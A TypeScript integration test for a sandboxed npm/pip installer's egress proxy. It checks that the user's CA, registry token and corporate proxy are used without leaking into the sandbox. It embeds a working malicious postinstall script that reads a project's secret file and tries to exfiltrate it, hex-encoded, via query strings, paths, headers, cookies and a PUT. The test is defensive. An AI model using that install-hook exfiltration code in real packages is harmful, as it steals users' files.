/**
 * The user's own registry settings, carried by the egress proxy and never by the sandbox: a mirror
 * reached over TLS whose certificate only the user's CA file vouches for (as behind a TLS-intercepting
 * proxy), a token the mirror demands, and a corporate proxy every request must go through — each a
 * real server on this machine, in front of a real verdaccio. The install ends with the package
 * installed, the token seen by the mirror on every request and nowhere in the project or the output,
 * and every connection made through the corporate proxy; without the CA the report quotes npm's own
 * error and names the certificate.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';
import { createEgressCa } from '../../src/host/egress/index.ts';
import { checkInstall, describeInstallFailure, runInstall } from '../../src/host/install/index.ts';
import { DEFAULT_SANDBOX_SETTINGS } from '../../src/host/sandbox/index.ts';
import { type NpmRegistry, startNpmRegistry } from '../helpers/npm-registry.ts';
import { type PythonIndex, startPythonIndex } from '../helpers/python-index.ts';
import { BUBBLEWRAP, PYTHON, requireSystem } from '../helpers/system-requirements.ts';
import { removeTempDirs, tempDir } from '../helpers/temp-dir.ts';

const exec = promisify(execFile);
const TOKEN = `mirror-token-${process.pid}`;
const SECRET = `a committed file's content ${process.pid}`;

/** A postinstall that tries to send a committed file out through the proxy to the mirror, every way it can. */
const EXFIL = `
const fs = require('fs'), http = require('http'), https = require('https'), tls = require('tls'), path = require('path');
const hex = Buffer.from(fs.readFileSync(path.join(process.env.INIT_CWD, 'secret.txt'), 'utf8')).toString('hex');
const proxy = new URL(process.env.HTTPS_PROXY);
const registry = new URL(process.env.npm_config_registry);
const get = (pathname, headers = {}, method = 'GET') => new Promise((resolve) => {
  const connect = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: registry.host });
  connect.on('connect', (res, socket) => {
    if (res.statusCode !== 200) return resolve('connect ' + res.statusCode);
    const secure = tls.connect({ socket });
    const req = https.request({ createConnection: () => secure, method, path: pathname, headers: { host: registry.host, ...headers } }, (answer) => {
      answer.resume();
      answer.on('end', () => resolve('status ' + answer.statusCode));
    });
    req.on('error', (error) => resolve('error ' + error.code));
    req.end();
  });
  connect.on('error', (error) => resolve('error ' + error.code));
  connect.end();
});
(async () => {
  const r = {};
  r.query = await get('/mini-slug?d=' + hex);
  r.long = await get('/' + hex.repeat(10).slice(0, 400));
  r.whoami = await get('/-/whoami', { 'x-exfil': hex });
  r.write = await get('/mini-slug', { 'x-exfil': hex }, 'PUT');
  r.name = await get('/' + hex.slice(0, 200));
  r.headers = await get('/mini-slug', { 'x-exfil': hex, cookie: 'c=' + hex });
  fs.writeFileSync(path.join(process.env.INIT_CWD, 'exfil-results.json'), JSON.stringify(r));
})();
`;

/** A request a mirror got: what went upstream of the proxy. */
interface Seen {
  method: string;
  url: string;
  authorization: string | undefined;
  headers: string[];
}

interface Servers {
  /** Every request the npm mirror got. */
  seen: Seen[];
  mirror: https.Server;
  wheelsMirror: https.Server;
  wheelsUrl: string;
  /** The Authorization header of every request the wheels mirror got. */
  wheelsAuthorizations: (string | undefined)[];
  corporate: net.Server;
  mirrorUrl: string;
  corporateUrl: string;
  /** The Authorization header of every request the mirror got. */
  authorizations: (string | undefined)[];
  /** The target of every CONNECT the corporate proxy tunnelled. */
  tunnels: string[];
}

/** A TLS server in front of a plain-HTTP one, answering only requests with the expected Authorization. */
function tlsMirror(site: { key: string; cert: string }, upstreamUrl: string, expected: string, seen: (string | undefined)[], paths: Seen[] = []): https.Server {
  const upstream = new URL(upstreamUrl);
  return https.createServer(site, (req, res) => {
    seen.push(req.headers.authorization);
    paths.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization, headers: Object.keys(req.headers) });
    if (req.headers.authorization !== expected) return void res.writeHead(401).end('{"error":"credentials required"}');
    const forwarded = http.request(
      { host: upstream.hostname, port: upstream.port, path: req.url, method: req.method, headers: { ...req.headers, 'x-forwarded-proto': 'https' } },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
      },
    );
    forwarded.on('error', () => res.writeHead(502).end());
    req.pipe(forwarded);
  });
}

/** TLS mirrors of verdaccio and of the wheel page, each demanding credentials, and an HTTP CONNECT proxy in front. */
async function startServers(npm: NpmRegistry, wheels: PythonIndex, caDir: string): Promise<Servers> {
  const ca = await createEgressCa();
  await fs.writeFile(path.join(caDir, 'corporate-ca.pem'), ca.certPem);
  const authorizations: (string | undefined)[] = [];
  const seen: Seen[] = [];
  const mirror = tlsMirror(ca.siteCertificate('127.0.0.1'), npm.url, `Bearer ${TOKEN}`, authorizations, seen);
  const wheelsAuthorizations: (string | undefined)[] = [];
  const wheelsMirror = tlsMirror(ca.siteCertificate('127.0.0.1'), wheels.url, `Basic ${Buffer.from(`pip:${TOKEN}`).toString('base64')}`, wheelsAuthorizations);
  const tunnels: string[] = [];
  const corporate = http.createServer((_req, res) => res.writeHead(405).end());
  corporate.on('connect', (req, socket, head) => {
    tunnels.push(req.url ?? '');
    const [host, port] = (req.url ?? '').split(':');
    const target = net.connect(Number(port), host, () => {
      socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
      target.write(head);
      target.pipe(socket).pipe(target);
    });
    target.on('error', () => socket.destroy());
    socket.on('error', () => target.destroy());
  });
  const listen = (server: net.Server) =>
    new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as net.AddressInfo).port)));
  const [mirrorPort, wheelsPort, corporatePort] = await Promise.all([listen(mirror), listen(wheelsMirror), listen(corporate)]);
  return {
    seen,
    mirror,
    wheelsMirror,
    corporate,
    mirrorUrl: `https://127.0.0.1:${mirrorPort}/`,
    wheelsUrl: `https://127.0.0.1:${wheelsPort}/`,
    corporateUrl: `http://127.0.0.1:${corporatePort}`,
    authorizations,
    wheelsAuthorizations,
    tunnels,
  };
}

describe('install egress: the user’s CA, token and proxy, carried by the proxy alone', function () {
  this.timeout(300_000);
  let npm: NpmRegistry;
  let wheels: PythonIndex;
  let servers: Servers;
  let userDir: string;

  before(async function () {
    requireSystem(this, BUBBLEWRAP, PYTHON);
    [npm, wheels] = await Promise.all([startNpmRegistry(), startPythonIndex()]);
    await wheels.addWheel('tinyslug', '1.0.0', 'def slug(text):\n    return "-".join(text.lower().split())\n');
    await npm.publishFiles({ 'package.json': JSON.stringify({ name: 'mini-slug', version: '1.0.2', main: 'index.js' }), 'index.js': 'module.exports = 1;\n' });
    await npm.publishFiles({
      'package.json': JSON.stringify({ name: 'exfil-pkg', version: '1.0.0', scripts: { postinstall: 'node exfil.js' } }),
      'exfil.js': EXFIL,
    });
    userDir = await tempDir('sopworks-user-');
    servers = await startServers(npm, wheels, userDir);
  });

  after(async () => {
    for (const server of [servers?.mirror, servers?.wheelsMirror]) server?.closeAllConnections();
    await Promise.all([
      npm?.stop(),
      wheels?.stop(),
      ...[servers?.mirror, servers?.wheelsMirror, servers?.corporate].map((server) => new Promise((r) => (server ? server.close(r) : r(null)))),
    ]);
    await removeTempDirs();
  });

  async function installWith(
    npmrc: string,
    python: { cert: string | null } | null = null,
    attack: { files: Record<string, string>; dependencies: Record<string, string> } | null = null,
  ) {
    await fs.writeFile(path.join(userDir, 'npmrc'), npmrc);
    const env: NodeJS.ProcessEnv = {
      PATH: process.env.PATH,
      HOME: userDir,
      npm_config_userconfig: path.join(userDir, 'npmrc'),
      npm_config_globalconfig: '/dev/null',
      PIP_CONFIG_FILE: '/dev/null',
      HTTPS_PROXY: servers.corporateUrl,
      ...(python?.cert ? { PIP_CERT: python.cert } : {}),
    };
    const projectDir = await tempDir();
    if (python) await fs.writeFile(path.join(projectDir, 'requirements.txt'), 'tinyslug==1.0.0\n');
    else
      await fs.writeFile(
        path.join(projectDir, 'package.json'),
        JSON.stringify({ name: 'p', version: '1.0.0', dependencies: { 'mini-slug': '^1.0.0', ...attack?.dependencies } }),
      );
    for (const [name, content] of Object.entries(attack?.files ?? {})) await fs.writeFile(path.join(projectDir, name), content);
    const scripts = attack !== null;
    // The wheel page's credentials are in its URL, as in a pip index-url: the proxy takes them out.
    const registries = { npm: servers.mirrorUrl, pipIndex: null, pipFindLinks: servers.wheelsUrl.replace('https://', `https://pip:${TOKEN}@`) };
    const check = await checkInstall({ projectDir, registries, scripts, env });
    assert.deepEqual(check.refusals, []);
    const run = await runInstall(
      { ...check, plan: check.plan! },
      { projectDir, registries, scripts, network: true, sandbox: { ...DEFAULT_SANDBOX_SETTINGS, mode: 'bubblewrap' }, wallSeconds: 120, env },
    );
    return { projectDir, run };
  }

  it('installs from a TLS mirror the user trusts, with their token, through their proxy; the sandbox holds neither', async () => {
    servers.authorizations.length = 0;
    servers.tunnels.length = 0;
    const { projectDir, run } = await installWith(
      `cafile=${path.join(userDir, 'corporate-ca.pem')}\n//127.0.0.1:${new URL(servers.mirrorUrl).port}/:_authToken=${TOKEN}\n`,
    );
    assert.equal(run.outcome.exitCode, 0, run.outcome.output);
    const lock = JSON.parse(await fs.readFile(path.join(projectDir, 'package-lock.json'), 'utf8'));
    assert.equal(lock.packages['node_modules/mini-slug'].resolved, `${servers.mirrorUrl}mini-slug/-/mini-slug-1.0.2.tgz`);
    assert.ok(servers.authorizations.length >= 2, 'the packument and the tarball');
    assert.ok(
      servers.authorizations.every((a) => a === `Bearer ${TOKEN}`),
      'every request carried the token',
    );
    assert.ok(servers.tunnels.length >= 1 && servers.tunnels.every((t) => t === `127.0.0.1:${new URL(servers.mirrorUrl).port}`), servers.tunnels.join(', '));
    const { stdout } = await exec('grep', ['-rl', TOKEN, projectDir]).catch((error: { stdout: string }) => error);
    assert.equal(stdout, '', 'the token is in no file of the project');
    assert.ok(!run.outcome.output.includes(TOKEN));
  });

  it('pip too: a wheel page over TLS that the user’s pip cert vouches for, its credentials from the URL, through the proxy', async () => {
    servers.wheelsAuthorizations.length = 0;
    const { projectDir, run } = await installWith('', { cert: path.join(userDir, 'corporate-ca.pem') });
    assert.equal(run.outcome.exitCode, 0, run.outcome.output);
    assert.equal(await fs.readFile(path.join(projectDir, 'requirements.lock'), 'utf8'), 'tinyslug==1.0.0\n');
    assert.ok(servers.wheelsAuthorizations.length >= 2, 'the page and the wheel');
    assert.ok(servers.wheelsAuthorizations.every((a) => a?.startsWith('Basic ')));
    assert.ok(
      run.outcome.violations.every((v) => v.kind !== 'network'),
      'nothing refused',
    );
    const { stdout } = await exec('grep', ['-rl', TOKEN, projectDir]).catch((error: { stdout: string }) => error);
    assert.equal(stdout, '', 'the credentials are in no file of the project');
  });

  it("only a package's paths reach a mirror (and so its uplink), with the token: no query, no other path or method, no header of the sandbox's; a name is bounded", async () => {
    servers.seen.length = 0;
    const hex = Buffer.from(SECRET).toString('hex');
    const { projectDir, run } = await installWith(
      `cafile=${path.join(userDir, 'corporate-ca.pem')}\n//127.0.0.1:${new URL(servers.mirrorUrl).port}/:_authToken=${TOKEN}\n`,
      null,
      { files: { 'secret.txt': SECRET }, dependencies: { 'exfil-pkg': '1.0.0' } },
    );
    assert.equal(run.outcome.exitCode, 0, run.outcome.output);
    const results = JSON.parse(await fs.readFile(path.join(projectDir, 'exfil-results.json'), 'utf8')) as Record<string, string>;
    assert.deepEqual(results, {
      query: 'status 403',
      long: 'status 403',
      whoami: 'status 403',
      write: 'status 403',
      name: 'status 404',
      headers: 'status 200',
    });
    const refused = run.outcome.violations.filter((v) => v.kind === 'network').map((v) => v.detail);
    assert.equal(refused.length, 4, refused.join('\n'));
    // What reached the mirror (and so its uplink): package paths alone, each read with the token.
    for (const request of servers.seen) {
      assert.ok(['GET', 'HEAD'].includes(request.method), request.method);
      assert.equal(request.authorization, `Bearer ${TOKEN}`);
      assert.ok(!request.url.includes('?') && !request.url.startsWith('/-/'), request.url);
      assert.ok(decodeURIComponent(request.url.split('/')[1]!).length <= 214, request.url);
      assert.deepEqual(
        request.headers.filter((name) => /exfil|cookie/.test(name)),
        [],
      );
    }
    // A valid package name is data all the same: this one carried the committed file, within npm's 214 characters.
    assert.ok(servers.seen.some((request) => request.url === `/${hex.slice(0, 200)}`));
  });

  it('without the user’s CA: refused upstream, and the report quotes npm and names the certificate', async () => {
    const { run } = await installWith(`//127.0.0.1:${new URL(servers.mirrorUrl).port}/:_authToken=${TOKEN}\n`);
    assert.notEqual(run.outcome.exitCode, 0);
    const [failure] = describeInstallFailure(run.outcome.output, run.outcome.exitCode, run.outcome.timedOut);
    assert.equal(failure!.name, 'install: the registry');
    assert.match(failure!.message, /could not be reached from this machine \(GET https:\/\/127\.0\.0\.1:\d+\/mini-slug: \S*(CERT|SIGNATURE|ISSUER)/);
    assert.match(failure!.message, /the installer said: npm error/);
  });
});
